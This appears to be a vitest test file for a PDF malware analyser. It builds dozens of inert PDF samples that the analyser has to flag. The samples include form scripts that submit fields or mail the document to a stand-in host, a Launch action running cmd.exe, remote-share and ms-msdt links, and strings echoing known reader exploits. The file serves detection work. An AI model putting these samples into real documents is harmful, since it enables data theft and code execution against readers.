/**
 * Ways in which a PDF reaches out of itself. Each sample is inert. None may become less than suspicious when the lists of ordinary things grow.
 */
import { expect, test } from 'vitest';
import { verdictOn } from './analyse.ts';
import { attachedFile, inParentheses, pdfWith, scriptAction } from './pdf-fixture.ts';

const action = (text: string, catalog = '') => pdfWith(`4 0 obj <<${text}>> endobj`, catalog);
const field = (script: string) =>
  pdfWith(`${scriptAction(script)}\n5 0 obj <</Subtype /Widget /FT /Tx /AA <</F 4 0 R>>>> endobj`);
const atOpening = (script: string) => pdfWith(scriptAction(script), '/OpenAction 4 0 R');
const xfa = (template: string) =>
  pdfWith(
    `4 0 obj <</XFA [(template) 5 0 R]>> endobj\n5 0 obj <</Length ${template.length}>>\nstream\n${template}\nendstream endobj`,
    '/AcroForm 4 0 R',
  );

const SAMPLES: readonly (readonly [string, Uint8Array])[] = [
  ['a form script that then opens an address', field('event.value = 1; app.launchURL("https://pay.example/", true);')],
  ['a form script that loads a page', field('if (event.willCommit) this.getURL("https://pay.example/");')],
  [
    'a form script that sends its fields',
    field('AFNumber_Format(2, 0, 0, 0, "", true); this.submitForm({ cURL: "https://pay.example/" });'),
  ],
  ['a form script that sends mail', field('this.mailForm(false, "a@pay.example"); event.rc = true;')],
  [
    'a form script that mails the document',
    field('event.rc = true; this.mailDoc({ bUI: false, cTo: "a@pay.example" });'),
  ],
  [
    'a script that opens an attached file',
    atOpening('this.exportDataObject({ cName: "a", nLaunch: 2 }); var f = this.getField("a");'),
  ],
  ['a script that loads another file', atOpening('this.importDataObject("a", "/c/a.txt"); getField("a");')],
  ['a script that imports fields of a file', atOpening('getField("a"); this.importAnFDF("//pay.example/a.fdf");')],
  ['a script that imports a picture from a file', field('event.target.buttonImportIcon("/c/a.pdf");')],
  ['a script that opens a document', atOpening('getField("a"); app.openDoc("//pay.example/a.pdf");')],
  ['a script that asks a service', atOpening('getField("a"); SOAP.request({ cURL: "https://pay.example/" });')],
  [
    'a script that connects by HTTP',
    atOpening('getField("a"); Net.HTTP.request({ cVerb: "GET", cURL: "https://pay.example/" });'),
  ],
  ['a script that runs a text', field('event.value = eval(event.value);')],
  ['a script that runs a text by a function', field('var f = Function; event.value = new Function("a", "b")();')],
  ['a script that waits for a text', field('event.rc = true; app.setTimeOut("a" + event.value, 1);')],
  ['a script that repeats a text', field('event.rc = true; app.setInterval("a", 1);')],
  ['a script that decodes a text', field('var a = unescape("%u4141%u4242"); event.value = a;')],
  ['a script that prints a number with too many digits', field('event.value = util.printf("%45000f", 1);')],
  ['a script with an icon of an overlong name', field('event.rc = true; Collab.getIcon("N." + event.value);')],
  [
    'a script with a mail of an overlong text',
    field('event.rc = true; Collab.collectEmailInfo({ msg: event.value });'),
  ],
  [
    'a script that takes a method by a name',
    field('var n = "launch" + "URL"; app[n]("https://pay.example/"); event.rc = true;'),
  ],
  [
    'a script that takes a method by another name of the object',
    field('me = this; event.rc = true; me["get" + "URL"]("a");'),
  ],
  [
    'a script that keeps a method as a member',
    field('this.go = app.launchURL; this.go("https://pay.example/"); event.rc = 1;'),
  ],
  ['a script that calls a member of its own', field('this.go = event.target; this.go("a");')],
  ['a script that sets where links lead', field('baseURL = "https://pay.example/"; event.rc = true;')],
  [
    'a script that sets where links of the document lead',
    field('this.baseURL = "https://pay.example/"; event.rc = true;'),
  ],
  ['a script that asks to be trusted', field('event.rc = true; app.trustedFunction(event.target);')],
  ['a script that adds a script', field('event.rc = true; this.addScript("a", "b");')],
  ['a script that sets an action', field('event.target.setAction("MouseUp", "app.beep()");')],
  ['a script that stores for other documents', field('global.a = event.value;')],
  ['a script that reads who the reader is', field('event.value = identity.email;')],
  ['a script that reads the path of the document', field('event.value = this.path;')],
  ['a script that chooses an item of a menu', field('event.rc = true; app.execMenuItem("SaveAs");')],
  ['a script that asks a database', field('event.rc = true; ADBC.newConnection("a");')],
  ['a script in a string that is cut', field(`event.value = "${'a'.repeat(70_000)}";`)],
  ['a program that is started', action('/S /Launch /F (a.exe)')],
  ['a program that is started by parameters', action('/S /Launch /F (a.pdf) /Win <</F (cmd.exe) /P (/c a)>>')],
  ['a document of another machine that is started', action('/S /Launch /F (\\\\\\\\pay.example\\\\a.pdf)')],
  ['a document of another machine that is opened', action('/S /GoToR /F (//pay.example/a.pdf) /D [0 /Fit]')],
  [
    'a document of another machine behind a byte order mark',
    action('/S /GoToR /F (\\376\\377\\000/\\000/\\000a\\000.\\000p\\000d\\000f)'),
  ],
  [
    'a document of another machine behind another byte order mark',
    action('/S /GoToR /F (\\357\\273\\277//pay.example/a.pdf)'),
  ],
  ['a document of the web that is opened', action('/S /GoToR /F <</FS /URL /F (a.pdf)>>')],
  ['a document of which one name is far', action('/S /GoToR /F <</F (a.pdf) /UF (\\\\\\\\pay.example\\\\a.pdf)>>')],
  [
    'a document whose second version is far',
    pdfWith('4 0 obj <</S /GoToR /F 5 0 R>> endobj 5 0 obj (a.pdf) endobj 5 0 obj (//pay.example/a.pdf) endobj'),
  ],
  ['a document of another type that is opened', action('/S /GoToR /F (a.html)')],
  ['a stream of another file', action('/S /GoToR /F (a.exe:b.pdf)')],
  ['an attached document that is opened', action('/S /GoToE /T <</R /C /N (a.pdf)>>')],
  ['a form that is sent', action('/S /SubmitForm /F <</FS /URL /F (https://pay.example/)>>')],
  ['a form that is sent at opening', action('/S /SubmitForm /F (https://pay.example/)', '/OpenAction 4 0 R')],
  ['fields of another machine', action('/S /ImportData /F (\\\\\\\\pay.example\\\\a.fdf)')],
  ['a link to a share', action('/S /URI /URI (file://pay.example/a)')],
  ['a link to a share without a scheme', action('/S /URI /URI (\\\\\\\\pay.example\\\\a)')],
  ['a link to a program on the drive', action('/S /URI /URI (file:///C:/a/a.exe)')],
  ['a document whose path has a variable', action('/S /GoToR /F (%TEMP%/a.pdf)')],
  ['a link that runs a script', action('/S /URI /URI (javascript:a)')],
  ['a link that starts a diagnosis', action('/S /URI /URI (ms-msdt:/id)')],
  ['a link that searches another machine', action('/S /URI /URI (search-ms:query=a&crumb=location:a)')],
  ['an attached program', pdfWith(attachedFile('a.txt', `MZ${'\x90\0'.repeat(60)}`))],
  ['an attached program that is not marked as a file', pdfWith(attachedFile('a.txt', `MZ${'\x90\0'.repeat(60)}`, ''))],
  ['an attached script by its name', pdfWith(attachedFile('a.vbs', 'a\n'))],
  ['an attached shortcut by its name', pdfWith(attachedFile('a.lnk', 'a\n'))],
  ['an attached archive', pdfWith(attachedFile('a.zip', `PK\x05\x06${'\0'.repeat(18)}`))],
  ['an attached page', pdfWith(attachedFile('a.txt', '<!doctype html><html><body>a</body></html>'))],
  [
    'a form with a script as XML',
    xfa('<template><script contentType="application/x-javascript">a</script></template>'),
  ],
  ['a form as XML that is sent', xfa('<template><submit target="https://pay.example/"/></template>')],
  [
    'a script whose name has escapes',
    pdfWith(`4 0 obj <</S /J#61vaScript /J#53 ${inParentheses('event.value = 1;')}>> endobj`),
  ],
];

test('there are more than 40 of them', () => expect(SAMPLES.length).toBeGreaterThan(60));

test.each(SAMPLES)('%s is suspicious', async (_, bytes) => {
  expect(await verdictOn(bytes, 'a.pdf')).toMatch(/^(?:suspicious|malicious) /);
});

test('a script in an object stream is found by its number, in whatever order the stream lists them', async () => {
  const texts = ['(event.value = 1;)', '(app.launchURL\\("https://pay.example/"\\))'];
  const head = `8 ${texts[0]?.length} 7 0 `;
  const body = `${head}${texts[0]}${texts[1]}`;
  const stream = `5 0 obj <</Type /ObjStm /N 2 /First ${head.length} /Length ${body.length}>>\nstream\n${body}\nendstream endobj`;
  const calling = (number: number) => pdfWith(`4 0 obj <</S /JavaScript /JS ${number} 0 R>> endobj\n${stream}`);
  expect(await verdictOn(calling(7), 'a.pdf')).toMatch(/^unknown .*pdf-form-script/);
  expect(await verdictOn(calling(8), 'a.pdf')).toMatch(/^suspicious .*pdf-javascript/);
});

test('one long object to which thousands of others refer is judged once', async () => {
  const referring = (text: string) =>
    Array.from({ length: 10_000 }, (_, at) => `${at + 10} 0 obj <<${text} 5 0 R>> endobj`).join('\n');
  const [files, names] = ['/F 6 0 R '.repeat(15_000), '/F (a.pdf) '.repeat(15_000)];
  expect(await verdictOn(pdfWith(`5 0 obj <<${files}>> endobj\n${referring('/EF')}`), 'a.pdf')).toMatch(
    /embedded-file/,
  );
  expect(await verdictOn(pdfWith(`5 0 obj <<${names}>> endobj\n${referring('/S /GoToR /F')}`), 'a.pdf')).toMatch(
    /^unknown .*pdf-remote/,
  );
});

test('an object of too many versions is not followed', async () => {
  const versions = '5 0 obj (a.pdf) endobj\n'.repeat(200);
  const bytes = pdfWith(`${versions}4 0 obj <</S /GoToR /F 5 0 R>> endobj`);
  expect(await verdictOn(bytes, 'a.pdf')).toMatch(/^suspicious .*pdf-remote/);
});
